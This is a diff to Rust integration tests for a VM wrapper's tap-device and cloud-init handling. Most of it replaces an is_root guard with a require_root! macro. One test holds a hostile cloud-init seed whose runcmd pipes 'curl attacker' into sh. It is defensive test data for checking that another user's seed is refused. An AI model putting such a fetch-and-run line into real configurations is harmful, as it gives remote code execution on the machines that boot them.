@@ -1,7 +1,7 @@
 //! vmwrapper's errors a user can act on, without a daemon.
 
 use std::process::Command;
-use tapmanager_tests::sandbox::{as_user, bin, is_root, Sandbox, TestDir};
+use tapmanager_tests::sandbox::{as_user, bin, Sandbox, TestDir};
 
 #[test]
 fn daemon_not_running_names_the_socket_and_says_what_to_do() {
@@ -23,9 +23,7 @@ fn daemon_not_running_names_the_socket_and_says_what_to_do() {
 /// asks the daemon for anything (no daemon runs here).
 #[test]
 fn a_cloud_init_directory_another_user_made_is_refused_before_attaching() {
-    if !is_root("a_cloud_init_directory_another_user_made_is_refused_before_attaching") {
-        return;
-    }
+    tapmanager_tests::require_root!();
     use tapmanager_tests::ids::vmwrapper::ATTACKER;
     use tapmanager_tests::ids::vmwrapper::VICTIM;
     let attack = "#cloud-config\nruncmd: [\"curl attacker | sh\"]\n";
@@ -124,9 +122,7 @@ for fd in range(3, 10):
 
 #[test]
 fn each_adapter_puts_the_fds_where_its_argv_says() {
-    if !is_root("each_adapter_puts_the_fds_where_its_argv_says") {
-        return;
-    }
+    tapmanager_tests::require_root!();
     let sb = Sandbox::with_defaults("adapters", tapmanager_tests::ids::vmwrapper::ADAPTERS_GROUP);
     for (kind, net, want) in [
         (
@@ -262,9 +258,7 @@ fn recv_fds(stream: &std::os::unix::net::UnixStream) -> Vec<std::os::fd::OwnedFd
 
 #[test]
 fn firecracker_opens_its_tap_by_name_as_the_caller_and_only_the_caller() {
-    if !is_root("firecracker_opens_its_tap_by_name_as_the_caller_and_only_the_caller") {
-        return;
-    }
+    tapmanager_tests::require_root!();
     use std::io::{BufRead, Write};
     use std::os::unix::fs::PermissionsExt;
     use tapmanager_tests::ids::vmwrapper::GROUP;
@@ -431,9 +425,7 @@ fn networkd_keys(text: &str) -> std::collections::BTreeMap<String, String> {
 
 #[test]
 fn cloud_init_seeds_of_both_versions_render_with_debians_cloud_init() {
-    if !is_root("cloud_init_seeds_of_both_versions_render_with_debians_cloud_init") {
-        return;
-    }
+    tapmanager_tests::require_root!();
     let render = concat!(
         env!("CARGO_MANIFEST_DIR"),
         "/../scripts/cloud-init-render.sh"
